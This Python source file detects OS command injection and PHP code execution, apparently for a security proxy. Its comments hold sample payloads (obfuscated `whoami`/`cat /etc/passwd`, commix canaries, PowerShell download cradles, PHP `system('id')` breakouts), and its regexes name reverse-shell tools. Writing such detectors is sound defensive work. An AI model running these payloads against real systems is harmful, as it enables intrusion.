"""OS command injection (and the PHP code-execution payloads that ride along in the same lists).

Prose says "cat", "ping me", "echo the plan"; a developer's comment says `ls -la` in back-quotes. An
injection must *separate* itself from the argument the application passes to the shell (`;`, `|`, `&`,
`&&`, `||`, a newline, `$(`, or a back-quote that opens right after one of those or at the start) and
then name a program. So we match separator + program, where the program list is split:
- unambiguous programs (`id`, `whoami`, `uname`, `wget`, `nc`, `bash`, `powershell`, ...) count as soon
  as they follow a separator;
- English-looking ones (`cat`, `ping`, `sleep`, `echo`, `net`, `reg`, `type`, ...) count only with
  arguments that look like shell arguments (`cat /etc/...`, `ping -n 30`, `sleep 5`, `net user`).
Plus shapes that need no separator: shellshock `() { :;};`, `${IFS}`, reverse-shell flags, interpreter
one-liners (`perl -e`, `python -c`), PHP `system('...')`, `<?php`, `{${...}}`, `$_GET[`.

Shell expansion, the way scanners probe without naming a known program (commix's default,
`;echo TAG$((54+42))$(echo TAG)TAG`): command substitution `$(...)` and back-quotes are separators, after
a separator `echo` counts with a word glued to a `$` expansion (`echo TAG$((`), a substitution that prints a
bare word is the tag itself (`$(echo TAG)`), and arithmetic expansion of two constants glued to a word
(`TAG$((54+42))`) is commix's canary. jQuery's `$(document)`, `$('#id')` and a shell lesson's `echo $((2+3))`
have none of these shapes. Also a variable assigned and then
run as the command (`CMD=$'whoami';$CMD`), a server-side include (`<!--#exec cmd=`), fuzzdb's `^` and `<`
in front of a command (weaker: the program must end the command or take a shell argument), and `+` for a
blank after a separator (a URL-form payload as the JSON text it was in a query string).

Obfuscation a shell undoes is undone for a second look when the first finds nothing (a whole value up to
512 characters, in a longer one around each shell token, see `_SECOND_LOOK_MAX`): quotes and
backslashes inside a word (`c'a't`, `who\ami`), cmd.exe's `^` (`w^hoami`), special parameters and empty
substitutions inside a word (`c$@at /et$@c/pas$@swd`, `pi$()ng`, ``pi``ng``). Also cmd.exe `FOR` loops
(`for /f %a in (...) do ...`), a variable run as a command with arguments (`c=cat&&$c $a$b`), Windows
`%SYSTEMROOT%` paths after `type`, `format c:`, and PowerShell download cradles as the whole value.

A line break is a separator only in short values (at most 3 lines and 256 characters): free text
with a fenced code block legitimately has `\ncurl ...`; an injection that relies on the line break alone
and pads the value past that is not caught (one using `;`, `|`, `&` or `$(` still is).

A command alone as the whole value (`ls`, `netstat -an`) is indistinguishable from text without knowing
the field; only a few unmistakable invocations are matched there. Hand-written for the same reasons as
sqli.py; linear-time patterns behind a pre-filter on the separator characters.
"""

from __future__ import annotations

import re

from proxy.detect.base import Finding, PlainGate, RuleSet
from proxy.detect.fields import Field
from proxy.detect.prefilter import starting, words
from proxy.detect.searchers import Anchored, Calls, Leftmost, Short, word

# Each alternative starts with a literal, so `re` skips in C to where a separator can be (an alternative that
# starts with a class or an assertion makes it try every position). A back-quote counts after a word
# character, `=`, `(`, a separator or a quote, or at the start: the look-behind covers that character and
# the back-quote itself, and finds no such pair at the start.
_SEP_HEADS = (";", r"\|", "&", r"\$\(", r"`(?<![^\w=(;|&'\"]`)")
_SEP = "(?:" + "|".join(_SEP_HEADS) + ")"
_NL_HEADS = (r"\n", r"\r", r"\\n", r"\\r", "%0a", r"\\033\[\d*[a-z]?")
_NL_LITERALS = tuple(zip(("\n", "\r", "\\n", "\\r", "%0a", "\\033"), _NL_HEADS, strict=True))  # (literal, source)
# the program may be named by path, also without the leading slash (`|usr/bin/id`, `;bin/ls`): the
# application's working directory is often `/`
_PATH = r"(?:/?usr/|/)?(?:s?bin/)?"
_STRONG = (
    r"(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|nc|ncat|netcat|cmd\.exe"
    r"|systeminfo|sysinfo|tasklist|taskkill|certutil"
    r"|bitsadmin|mshta|rundll32|wmic|regsvr32|telnet|nmap|chmod|chown|useradd|crontab|base64|xxd|passwd|sudo"
    r"|ls|pwd|dir|env|hostname|ps|killall|pkill|tftp|socat|phpinfo|getent|lsof|printenv|net\.exe)"
)
_WEAK = (
    r"id(?=\s*$|\s*[\n;&`)'\"\\]|\|(?!\s))"
    r"|(?:perl|python[23]?|php|ruby|lua|node|bash|sh|zsh|ksh|csh|dash|powershell|pwsh|cmd)"
    r"\s+(?:-\w|/|<|['\"]|[\w-]+\.(?:py|pl|php|rb|sh|js|ps1))|"
    r"(?:cat|more|less|head|tail|type|tac|nl|strings)\s+(?:-\w+\s+)*(?:[~.]{0,2}/|[a-z]:[\\/]|\$|%\w+%|[\w.-]+\."
    r"(?:php|txt|ini|conf|config|log|py|sh|env|xml|json|ya?ml|cfg|bak|sql|pem|key|htaccess|htpasswd)\b)"
    r"|ping\s+(?:-[a-z]+\s*\d*\s+)*(?:-[a-z]|\d{1,3}\.|[\w-]+\.[a-z]{2,}|localhost)"
    r"|sleep\s+\d+|echo\s+(?:[\"'$]|\w+(?:\$|\s*(?:[>|;&]|$)))|exit\b\s*(?:\d|$|;)|set\s*(?:$|[|&;])"
    r"|net\s+(?:user|localgroup|view|share|use|start|stop|group|accounts|session)\b"
    r"|reg\s+(?:add|query|delete|save|export)\b|netsh\s+\w+|route\s+(?:print|add|-n)"
    r"|find\s+[/.][^;|&]*-(?:name|exec|perm)|rm\s+-[rf]+|kill\s+-?\d|touch\s+/|cp\s+/|mv\s+/"
    r"|timeout\s+/t\b|format\s+[a-z]:"
    # PowerShell cmdlets with their kind of argument (`;start-sleep -s 5`, `-sec 5`: parameter names may be
    # shortened; `|iex (new-object ...)`, `|iex $x`, and `iex` ending a download cradle `iwr -useb URL|iex`;
    # a URL; a path) - not "NYSE; IEX (Investors Exchange)" or Elixir's `iex(1)>` prompt
    r"|start-sleep\s+(?:-[sm]\w*\s+)?\d"
    r"|(?:invoke-expression|iex)\s*(?:\(\s*(?:new-object|iwr|irm|invoke-|\[|['\"$])|[$'\"]|$)"
    r"|(?:invoke-webrequest|invoke-restmethod|iwr|irm)\s+(?:-\w+\s+)*['\"]?https?:"
    r"|get-content\s+(?:-path\s+)?['\"]?(?:[a-z]:\\|/|\.\.?[\\/]|\$env:)"
    # `last` (logins) is a word too: only glued to its separator, where prose puts a blank (`&&last`), not
    # after `;` or `|` (`first;last;email` is a CSV header, `(first|last)` an alternation), and ending a command
    r"|(?<![ \t+;|])last(?=\s*$|\s*[\n;&`])"
)

_SEPS = (";", "|", "&", "$(", "`")
_NLS = ("\n", "\r", "\\n", "\\r", "%0a")
_PHP_CALLS = ("system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "eval", "assert")
_PHP = ("<?", "{${", "${@", "$_", "phpinfo", *_PHP_CALLS)
_PHP_BREAKOUT = r"\s*[;.]\s*(?:exit|die|md5|phpinfo|system|eval|print_r|var_dump|passthru|shell_exec|assert|sleep)\s*\("
# blanks after a separator: also `+`, a space once the upstream URL-decodes the value (`|+dir+c:\` sent as
# the JSON text it was in a query string; `%0a` is a separator for the same reason)
_BLANKS = r"[\s+]*"
_AFTER_STRONG = rf"{_BLANKS}(?:\{{\s*)?{_PATH}{_STRONG}(?=$|[\s+;|&`)'\"<>#\\$]|\n)"
_AFTER_WEAK = rf"{_BLANKS}{_PATH}(?:{_WEAK})"
# the separators' screen: a program of either list, by its name alone, as a trie (prefilter.words)
_PROGRAMS = (
    "whoami uname ifconfig ipconfig netstat nslookup wget curl nc ncat netcat cmd.exe systeminfo sysinfo tasklist "
    "taskkill certutil bitsadmin mshta rundll32 wmic regsvr32 telnet nmap chmod chown useradd crontab base64 xxd "
    "passwd sudo ls pwd dir env hostname ps killall pkill tftp socat phpinfo getent lsof printenv net.exe "
    "id perl python php ruby lua node bash sh zsh ksh csh dash powershell pwsh cmd cat more less head tail type tac "
    "nl strings ping sleep echo exit set net reg netsh route find rm kill touch cp mv timeout last start-sleep "
    "invoke-expression invoke-webrequest invoke-restmethod get-content iex iwr irm format"
).split()
_AFTER_EITHER = rf"{_BLANKS}(?:\{{\s*)?{_PATH}{words(_PROGRAMS)}"
_AFTER_NL = rf"{_BLANKS}(?:\{{\s*)?{_PATH}(?:{_STRONG}(?=$|[\s+;|&`)'\"<>#\\$])|{_WEAK})"


# `^` (cmd.exe's escape, the Bourne shell's old pipe) and `<` (a redirection) in front of a command, as fuzzdb's
# templates put them: weaker than the separators above (regular expressions start with `^`, HTML with `<`), so
# a strong program must end its command (`;`, a line break) or take a shell argument (`-x`, `/path`, an
# address), not just end the value (`^env` is a regular expression);
# `dir`, `id` and `set` are left out (`<dir>` is an HTML element, `<id|token>` and `<set|get>` are placeholders
# in usage text, `seen << id` is Ruby)
_LOOSE_HEADS = (r"\^", "<")
_STRONG_ARGS = r"(?=[;&\n\r`]|\\[nr]|%0[ad]|[\s+]+(?:-\w|/|\d+\.))"
_AFTER_LOOSE = rf"{_BLANKS}{_PATH}(?!(?:dir|id|set)\b)(?:{_STRONG}{_STRONG_ARGS}|{_WEAK})"
_QUOTE = r"(?:['\"`]\s*)?"
_END = r"\s*(?:['\"`]\s*)?$"
_ARITH = r"\(\(\s*\d+\s*[-+*/%]\s*\d+\s*\)\)"
_VAR_SEPS = (";", "&&", "||")
_VAR_HEADS = (";", "&&", r"\|\|")
# the variable ends the command, or takes arguments (`$c $a$b`, `$CMD -la /`)
_VAR_END = r"(?:\s*(?:$|[;|&\n`)])|\s+(?:-\w|/|\$|[\w.-]+/))"
_VAR_TAIL = rf"\s*\$\{{?[a-z_]\w*\}}?{_VAR_END}"
_ASSIGN = re.compile(r"(?<![\w$])([a-z_]\w*)=")
_VAR_USE = re.compile("(?:" + "|".join(_VAR_HEADS) + rf")\s*\$\{{?([a-z_]\w*)\}}?(?={_VAR_END})")


class _VariableCommand:
    """`CMD=$'whoami';$CMD`, `a=id;${a}`: after a separator, a variable expansion is the whole command (the
    value or the command ends there), and the same value assigns that variable before, the shell's way
    (`name=`, no `$` or word character in front: PHP's `$a = &$b;` and JavaScript's `x || $el;` assign
    nothing so). The assignments are read once, in one pass, only when such a use is there."""

    def search(self, text: str) -> re.Match[str] | None:
        assigned: dict[str, int] | None = None
        for m in _VAR_USE.finditer(text):
            if assigned is None:
                assigned = {}
                for a in _ASSIGN.finditer(text):
                    assigned.setdefault(a.group(1), a.start())
            if assigned.get(m.group(1), len(text)) < m.start():
                return m
        return None


# (glued to the separator, as a shell without blanks needs it, and with a shell's kind of argument: an option,
# a path, a variable, a redirection or a base64 blob; not a Markdown table's `| {id,name} |` or `;{env,prod}`)
_BRACE = rf"\{{{_PATH}{words(_PROGRAMS)},(?=[^{{}}\s]*(?:[-/$<>]|[a-z0-9+=]{{12}}))[^{{}}\s]*\}}"
_NODE = (r"\(\s*['\"`](?:node:)?child_process['\"`]\s*\)\s*\.\s*(?:exec|execsync|execfile|execfilesync|spawn|spawnsync"
         r"|fork)\s*\(")


# cmd.exe's FOR loop: `for /f "tokens=1" %a in ('cmd') do ...`, `FOR %%i IN (set) DO x` (prose has no `%a in (`)
_FOR = r"for\s+(?:/[dflr]\s+(?:\"[^\"]{0,80}\"\s+|[a-z]:\\\S*\s+)?)*%%?\S\s+in\s*\("
# what a shell removes inside a word: backslashes, cmd.exe's `^`, special parameters (`$@`, `$*` ...), empty
# substitutions (`$()`, ``` `` ```, `<()`), and a quoted piece's quotes (`c'a't`; one apostrophe, "don't",
# is left alone: prose is full of them, and each change costs a second pass)
# (patterns that start with their literal, so `re` skips to it in C; the letter before is checked per match)
# (at most 8 in a row, taken whole: a run of `$$$...` is then tried from each `$` at a bounded cost)
_SPECIAL = r"\$[@*!?#_$-]"  # the shell's special parameters
_SHELL_EMPTY = re.compile(rf"(?:\\|\^|{_SPECIAL}|\$\(\)|``|[<>]\(\)){{1,8}}+(?=\w|/)")
_QUOTED_PIECE = re.compile(r"'(?<=\w')(\w*)'(?=\w|/)|\"(?<=\w\")(\w*)\"(?=\w|/)")
_SPECIAL_PARAMETER = re.compile(_SPECIAL)


def _has_shell_tokens(value: str) -> bool:
    """Whether `_SHELL_EMPTY` could match: the tokens themselves first, each a C scan (`re` tries an
    alternation of them at every character); a backslash in a Windows path (`c:\\users\\anna`) is none."""
    return (("\\" in value and ":\\" not in value) or "^" in value or "``" in value or "$()" in value
            or "<()" in value or ">()" in value or ("$" in value and _SPECIAL_PARAMETER.search(value) is not None))


def _unobfuscated(value: str) -> str:
    """`value` with what a shell removes inside a word taken out (see `_SHELL_EMPTY`, `_QUOTED_PIECE`);
    `value` itself when nothing is, so callers can tell by identity."""

    def inside(m: re.Match[str], keep: str = "") -> str:
        before = value_now[m.start() - 1 : m.start()]
        return keep if before.isalnum() or before == "_" else m.group()

    value_now = value
    if _has_shell_tokens(value):
        value_now = _SHELL_EMPTY.sub(inside, value)
    # quoted pieces only with a separator: a piece alone runs no command
    if ("'" in value_now or '"' in value_now) and (
            ";" in value_now or "|" in value_now or "&" in value_now or "\n" in value_now):
        value_now = _QUOTED_PIECE.sub(lambda m: m.group(1) if m.group(1) is not None else m.group(2), value_now)
    return value if value_now == value else value_now


def _heads(heads: tuple[str, ...], tail: str) -> str:
    """`(?:a|b)tail` as `a tail|b tail`: the form a screen needs (prefilter.py); `heads` are regex source."""
    return "|".join(head + tail for head in heads)



_CMDI = RuleSet(
    "cmdi",
    # (the class pre-filter: one of these; the commonest in benign text first, so most fields pass at once)
    (("/", "-", "(", ";", "\n", "&", "`", "<", "%", "|", "$", "\\", "\r", "config", "sleep ", "net ", "dir ", "whoami",
      "netstat", "sysinfo", "uname", "tasklist", "reg ", "netsh", "^"),),
    [
        # (one screen for both: a separator, then a program of either list; prefilter.py joins it once)
        ("separator-strong", (_SEPS,), re.compile(_SEP + _AFTER_STRONG), _heads(_SEP_HEADS, _AFTER_EITHER)),
        ("separator-weak", (_SEPS,), re.compile(_SEP + _AFTER_WEAK), _heads(_SEP_HEADS, _AFTER_EITHER)),
        # a line break separates commands too, but free text with a code block has line breaks before
        # `curl ...`: only short values (<= 3 lines, <= 256 characters) count it, see the module docstring
        # (no screen: prose has line breaks everywhere, and `Short` already drops long values)
        ("newline", (("\n", "\r", "\\", "%"),), Short(Leftmost(_NL_LITERALS, _AFTER_NL)), None),
        ("loose-separator", (("^", "<"),), re.compile(_heads(_LOOSE_HEADS, _AFTER_LOOSE)),
         _heads(_LOOSE_HEADS, _AFTER_EITHER)),
        # commix's canary and its kind: arithmetic expansion of constants glued to a word, `TAG$((54+42))TAG`
        # (the attacker looks for the sum next to the tag in the response); a shell lesson's `echo $((2+3))`
        # or `i=$((i+1))` is not glued to a word or has a variable
        ("arith", (("$((",),), re.compile(rf"\$(?<=\w\$){_ARITH}|\${_ARITH}(?=[\w$`])")),
        # a variable assigned in the value and then run as the command: `CMD=$'whoami';$CMD`
        ("variable", (("$",), _VAR_SEPS), _VariableCommand(), _heads(_VAR_HEADS, _VAR_TAIL)),
        # command substitution that prints a bare word: the tag a scanner looks for in the response (`$(echo TAG)`)
        ("substitution", (("$(",), ("echo",)), re.compile(r"\$\(\s*echo\s+\w+\)")),
        # server-side include: `<!--#exec cmd="ls"-->`
        ("ssi", (("<!--#",),), re.compile(r"<!--#\s*exec\s+(?:cmd|cgi)\s*=")),
        ("shellshock", (("()",),), re.compile(r"\(\)\s*\{\s*:?\s*;?\s*\}\s*;")),
        # bash brace expansion runs a command without a blank: `|{echo,Y2F0...}|{base64,-d}|bash` (screen: the
        # separators' own, which already takes a `{` before the program)
        ("brace", ((",",), ("{",)), re.compile(_heads(_SEP_HEADS, _BRACE)), _heads(_SEP_HEADS, _AFTER_EITHER)),
        ("for-loop", (("for",), ("%",), (" in",)), re.compile(_FOR), r"%%?\S\s+in\s*\("),
        # Node's child_process called from injected JavaScript (`process.mainModule.require('child_process')
        # .exec(...)`); the import alone is documentation
        ("node", (("child_process",),), re.compile(_NODE), _NODE),
        ("ifs", (("$",), ("ifs", "${")), re.compile(r"\$\{?ifs\b|\$\{[a-z_]+:\d+:\d+\}")),
        ("reverse-shell", (("/dev/tcp", "/dev/udp"),), re.compile(r"/dev/(?:tcp|udp)/")),
        ("reverse-shell", (("-",), ("nc ", "ncat", "netcat")),
         Leftmost([word("nc"), word("ncat"), word("netcat")], r"\s[^;|&\n]{0,60}?-[a-z]*e\s"), None),
        ("reverse-shell", (("/bin/",), ("-e",)), re.compile(r"\s-e\s+/bin/\w*sh\b"), r"-e\s+/bin/\w*sh\b"),
        ("reverse-shell", (("mkfifo",),), Leftmost([word("mkfifo")], r"\b[^;|&\n]{0,40}/tmp/"), None),
        ("interpreter", ((" -",), ("perl", "ruby", "php", "lua", "python", "sh ", "powershell")),
         re.compile(r"\b(?:perl|ruby|php|lua)\s+-[er]\s+['\"]|\bpython[23]?\s+-c\s+['\"]"
                    r"|\b(?:ba|z|k)?sh\s+-c\s+['\"]|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|command|nop)\b"),
         r"-[er]\s+['\"]|-c\s+['\"]|-(?:c|e|enc|command|nop)\b"),  # each alternative from its `-` on
        ("php", (("<?", "{${", "${@", "$_"),),
         re.compile(r"<\?(?:php\b|=)|\{\$\{|\$\{@|\$_(?:get|post|request|cookie|server|files)\s*\[")),
        ("php", (("(",), ("phpinfo", "phpversion")), Calls(("phpinfo", "phpversion")), None),
        # PHP code injection: break out of a string, then call (`";exit(md5('x'));//`, `'.system('id').'`)
        ("php", (("(",), ("'", '"')), re.compile(rf"['\"]{_PHP_BREAKOUT}"), starting(("'", '"'), _PHP_BREAKOUT)),
        ("php", ((",",), ("base64,",)), re.compile(r"base64,\s*pd9w"), None),
        ("php", (("(",), ("'", '"'), _PHP_CALLS), Calls(
            _PHP_CALLS, re.compile(rf"\s*['\"]\s*{_PATH}(?:{_STRONG}\b|{_WEAK})")),
         rf"\(\s*['\"]\s*{_PATH}{words(_PROGRAMS)}"),  # screen: the `(` and what `then` needs after it
        # the whole value is one unmistakable invocation: `ipconfig /all`, `netstat -an`, `whoami`, a listing
        # of an absolute path with options (`ls -l /etc/`; `ls -la ~/projects` in a ticket is not absolute),
        # a bare time probe (`sleep 5`; "sleep 8 hours" has words after the number)
        # matched at the start only (`search` would fail at each position), the shared `^\s*` once
        # (also in quotes, `'uname -n -s'`, and with `+` for blanks around `dir`, see `_BLANKS`)
        ("bare", (), Short(Anchored(re.compile(
            rf"[\s+]*{_QUOTE}(?:(?:whoami|ipconfig|ifconfig|netstat|systeminfo|sysinfo|uname|tasklist)"
            rf"(?:\s+[-/]\w+)*{_END}|(?:net\s+(?:user|localgroup|view)|reg\s+add|netsh\s+\w+)\b"
            rf"|dir[\s+]+[a-z]:\\|ls\s+(?:-[a-z]+\s+)+/[\w/.*-]*{_END}|sleep\s+\d+{_END}"
            # a PowerShell download cradle (`iex (iwr http://x/a.ps1)`, `Invoke-WebRequest http://x/a.ps1`)
            r"|(?:iex|invoke-expression)\s*\(\s*(?:new-object|iwr|irm|invoke-)"
            r"|(?:invoke-webrequest|invoke-restmethod|iwr|irm)\s+(?:-\w+\s+)*['\"]?https?:\S+\.ps1\b)")),
         max_len=160)),
    ],
    plain=PlainGate(("nc ", "ncat", "netcat", "/dev/", "-e /bin/", "mkfifo", "powershell", "python", "perl", "ruby"),
                    ("whoami", "ipconfig", "ifconfig", "netstat", "systeminfo", "sysinfo", "uname", "tasklist", "net ",
                     "reg ", "netsh", "dir ", "ls ", "sleep ", "invoke-", "iwr ", "irm ", "iex ", "iex(")),
)


# The second look takes a whole value up to this long; a longer one (a code snippet in a comment has `;`,
# quotes and programs, and a second pass over it costs more than the first: +15 % CPU on the prose
# benchmark bodies) gets it only around each shell token (`$@`, ``` `` ```, `^` ...), `_AROUND` characters
# either side, at most `_EXCERPTS` of them; quoted pieces (`c'a't`) are then not undone.
_SECOND_LOOK_MAX = 512
_AROUND = 128
_EXCERPTS = 8
_TOKEN_HEADS = ("\\", "^", "``", "$", "<(", ">(")


class CmdiDetector:
    """The rules above, then - when they find nothing - the same rules on the value with the in-word
    obfuscation a shell removes taken out (see the module docstring): a second text, not a replacement,
    so a rule that needs the original (`$_GET[`) still sees it."""

    name = "cmdi"
    cls = "cmdi"
    plain = _CMDI.plain

    def match(self, value: str, field: Field) -> Finding | None:
        hit = _CMDI.match(value, field)
        if hit is not None:
            return hit
        if len(value) > _SECOND_LOOK_MAX:
            return self._around_tokens(value, field) if _has_shell_tokens(value) else None
        plain = _unobfuscated(value)
        return None if plain is value else _CMDI.match(plain, field)

    @staticmethod
    def _around_tokens(value: str, field: Field) -> Finding | None:
        """The second look at a long value: excerpts around its in-word shell tokens (so padding does not
        hide them), found with `str.find` (the tokens' regex alternation costs ~10 ns a character)."""
        starts = []
        for token in _TOKEN_HEADS:
            i, seen = value.find(token), 0
            while i > 0 and seen < 64:
                before = value[i - 1]
                if before.isalnum() or before == "_":
                    starts.append(i)
                i, seen = value.find(token, i + 1), seen + 1
        done = -1
        for p in sorted(starts)[:_EXCERPTS]:
            if p < done:
                continue  # inside the last excerpt
            lo, done = max(0, p - _AROUND), p + _AROUND
            excerpt = value[lo:done]
            plain = _unobfuscated(excerpt)
            if plain is not excerpt:
                hit = _CMDI.match(plain, field)
                if hit is not None:
                    return hit
        return None


CMDI = CmdiDetector()
